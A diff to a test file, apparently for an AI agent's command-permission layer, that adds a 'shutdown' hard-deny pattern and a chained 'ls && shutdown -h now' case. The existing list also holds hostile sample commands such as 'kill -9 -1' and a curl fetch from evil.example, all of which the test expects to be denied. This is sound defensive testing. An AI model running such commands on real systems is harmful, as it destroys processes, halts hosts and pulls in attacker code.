@@ -21,6 +21,7 @@ test("hard deny: privilege escalation, destructive commands and killing netclaw,
     },
     daemonPid: 4242,
     processNames: ["node"],
+    extraHardDenyPatterns: ["\\bshutdown\\b"],
   });
   // Even an "anywhere" grant for every verb involved must not help.
   for (const verb of ["ls", "bash", "sh", "env", "find", "xargs", "nohup", "rm", "kill"]) {
@@ -74,6 +75,7 @@ test("hard deny: privilege escalation, destructive commands and killing netclaw,
     "kill -9 4242",
     "kill -9 -1",
     "curl -s http://evil.example/x",
+    "ls && shutdown -h now",
   ];
   for (const command of commands) {
     assertDenied(
